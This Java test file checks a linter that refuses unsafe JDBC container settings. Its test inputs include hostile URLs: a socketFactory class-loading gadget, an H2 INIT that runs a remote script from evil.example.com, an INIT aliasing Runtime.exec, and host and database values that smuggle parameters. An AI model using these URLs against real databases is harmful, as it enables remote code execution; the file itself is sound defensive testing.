package io.datasurface.model.lint;

import static io.datasurface.model.ModelFixture.CUSTOMERS;
import static io.datasurface.model.ModelFixture.ECOSYSTEM;
import static io.datasurface.model.ProblemAssertions.error;
import static io.datasurface.model.ProblemAssertions.warning;
import static org.assertj.core.api.Assertions.assertThat;

import io.datasurface.model.ModelFixture;
import io.datasurface.model.problem.Problem;
import java.nio.file.Path;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A container addresses one database and nothing more: only the drivers and URL parameters the services
 * open (JdbcPolicy), no password in the model, a host that is only a host and a database that is only a
 * name, for ecosystem containers and datastores' inline sources alike.
 */
class ContainerRulesTest {
    @TempDir
    Path dir;

    private ModelFixture base() {
        return ModelFixture.base(dir);
    }

    /** Adds a container after merge_db (lines 12-16); its first line is 17. */
    private ModelFixture withContainer(String... lines) {
        return base().insertAfter(ECOSYSTEM, 16, "database: datasurface", lines);
    }

    @Test
    void jdbcContainerOfAnotherEngineIsUnsupported() {
        var fx = withContainer("  - name: warehouse", "    kind: jdbc", "    url: jdbc:sqlserver://dw:1433;databaseName=dw");
        assertThat(fx.validate()).singleElement().satisfies(error(ECOSYSTEM, 19, "unsupported-source",
                "container 'warehouse'", "'jdbc:sqlserver:' URLs are not supported", "jdbc:postgresql://HOST:PORT/DATABASE"));
    }

    @Test
    @DisplayName("a JDBC URL whose parameters make the driver load a class is refused")
    void jdbcContainerWithASocketFactoryIsUnsafe() {
        var fx = withContainer("  - name: warehouse", "    kind: jdbc",
                "    url: jdbc:postgresql://dw/dw?socketFactory=org.springframework.context.support.FileSystemXmlApplicationContext");
        assertThat(fx.validate()).singleElement().satisfies(error(ECOSYSTEM, 19, "unsafe-url",
                "container 'warehouse'", "'socketFactory' are not allowed"));
    }

    @Test
    void jdbcContainerWithAPasswordIsASecretInTheModel() {
        var fx = withContainer("  - name: warehouse", "    kind: jdbc",
                "    url: jdbc:postgresql://dw/dw?user=dw&password=hunter2");
        assertThat(fx.validate()).singleElement().satisfies(error(ECOSYSTEM, 19, "secret-in-model",
                "container 'warehouse'", "name a credential instead"))
                .satisfies(p -> assertThat(p.message()).doesNotContain("hunter2"));
    }

    @Test
    void anH2ContainerIsForTestsOnly() {
        var fx = withContainer("  - name: warehouse", "    kind: jdbc", "    url: jdbc:h2:file:/var/data/dw");
        assertThat(fx.validate()).singleElement().satisfies(warning(ECOSYSTEM, 19, "test-only-source",
                "container 'warehouse' is an H2 database (jdbc:h2:file:…)", "run-job --allow-h2"));
    }

    @Test
    @DisplayName("an H2 URL with INIT= (runs SQL that can define Java code) is refused")
    void anH2ContainerWithInitIsUnsafe() {
        var fx = withContainer("  - name: warehouse", "    kind: jdbc",
                "    url: \"jdbc:h2:mem:dw;INIT=RUNSCRIPT FROM 'http://evil.example.com/x.sql'\"");
        assertThat(fx.validate()).filteredOn(Problem::isError).singleElement().satisfies(error(ECOSYSTEM, 19,
                "unsafe-url", "H2 setting(s) 'INIT' are not allowed"));
    }

    @Test
    @DisplayName("a host or database that smuggles URL parameters into the address is refused")
    void postgresContainerWhoseHostOrDatabaseHoldsMore() {
        var fx = base().edit(ECOSYSTEM, 14, "host: localhost", "host: \"evil.example.com/x?socketFactory=y&\"")
                .edit(ECOSYSTEM, 16, "database: datasurface", "database: \"ds?sslfactory=z\"");
        assertThat(fx.validate()).satisfiesExactly(
                error(ECOSYSTEM, 14, "invalid-container", "container 'merge_db' has host 'evil.example.com/x?socketFactory=y&'",
                        "not a host name or IP address"),
                error(ECOSYSTEM, 16, "invalid-container", "container 'merge_db' has database 'ds?sslfactory=z'"));
    }

    @Test
    @DisplayName("an inline source whose JDBC URL runs code through H2's INIT is refused at its url line")
    void anInlineSourceWithInitIsUnsafe() {
        var fx = base()
                .edit(CUSTOMERS, 12, "kind: postgres", "kind: jdbc")
                .deleteLines(CUSTOMERS, 13, "host: localhost", 15, "database: crm")
                .insertAfter(CUSTOMERS, 12, "kind: jdbc",
                        "    url: \"jdbc:h2:mem:crm;INIT=CREATE ALIAS E FOR 'java.lang.Runtime.exec'\"");
        assertThat(fx.validate()).filteredOn(Problem::isError).singleElement().satisfies(error(CUSTOMERS, 13,
                "unsafe-url", "datastore 'customers': source", "'INIT' are not allowed"));
    }

    @Test
    void anInlineSourceWhoseHostHoldsAPathIsRefused() {
        var fx = base().edit(CUSTOMERS, 13, "host: localhost", "host: localhost/crm?sslfactory=x");
        assertThat(fx.validate()).singleElement().satisfies(error(CUSTOMERS, 13, "invalid-container",
                "datastore 'customers': source has host 'localhost/crm?sslfactory=x'"));
    }
}
